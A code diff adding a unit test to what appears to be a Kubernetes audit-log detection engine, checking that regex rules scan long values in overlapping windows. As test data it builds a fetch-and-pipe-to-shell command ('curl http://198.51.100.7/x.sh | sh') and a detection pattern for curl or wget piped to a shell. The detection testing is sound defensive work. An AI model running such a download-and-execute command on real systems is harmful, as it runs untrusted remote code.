@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it, vi } from 'vitest';
 import { parseAuditLine, type AuditEvent } from '../parse/audit.ts';
+import { REGEX_WINDOW, testInWindows } from './conditions.ts';
 import { DetectionEngine } from './engine.ts';
 import { ABSENT, allowedBy, compileAhead, compileRuleTexts, discardCompiledAhead, EvalContext, loadRuleFiles, needsBodies, nodeNameOf, normalizeHostPath, parseImageRef, RuleError, serviceAccountOf } from './rules.ts';
 
@@ -82,6 +83,21 @@ describe('operators', () => {
   it('regex matches anywhere in the value', () => {
     expect(matches({ field: 'userAgent', regex: '^kubectl/v1\\.2[0-9]' }, e)).toBe(true);
     expect(matches({ field: 'userAgent', regex: '^curl' }, e)).toBe(false);
+  });
+  it('regex on a long value scans it in overlapping windows, each at most REGEX_WINDOW long, and finds a match across their edges', () => {
+    const seen: number[] = [];
+    const counting = { test: (s: string) => { seen.push(s.length); return false; } } as unknown as RegExp;
+    const long = 'socat '.repeat(30_000);
+    expect(testInWindows(counting, long)).toBe(false);
+    expect(Math.max(...seen)).toBeLessThanOrEqual(REGEX_WINDOW);
+    // Linear: about two scans of the value, not one per position.
+    expect(seen.reduce((a, b) => a + b, 0)).toBeLessThanOrEqual(2 * long.length + REGEX_WINDOW);
+    // A payload straddling a window edge deep in a long command line is still found through the rule language.
+    const payload = 'curl http://198.51.100.7/x.sh ' + 'a'.repeat(900) + ' | sh';
+    const command = 'x'.repeat(3 * REGEX_WINDOW - 500) + payload + 'y'.repeat(50_000);
+    const withCommand = ev({ userAgent: command });
+    expect(matches({ field: 'userAgent', regex: '(curl|wget)[^|;&]*\\|\\s*(ba)?sh' }, withCommand)).toBe(true);
+    expect(matches({ field: 'userAgent', regex: 'wget[^|;&]*\\|\\s*(ba)?sh' }, withCommand)).toBe(false);
   });
   it('cidr matches IPv4 and IPv6 ranges and ignores values that are not addresses', () => {
     expect(matches({ field: 'sourceIP', cidr: '127.0.0.0/8' }, e)).toBe(true);
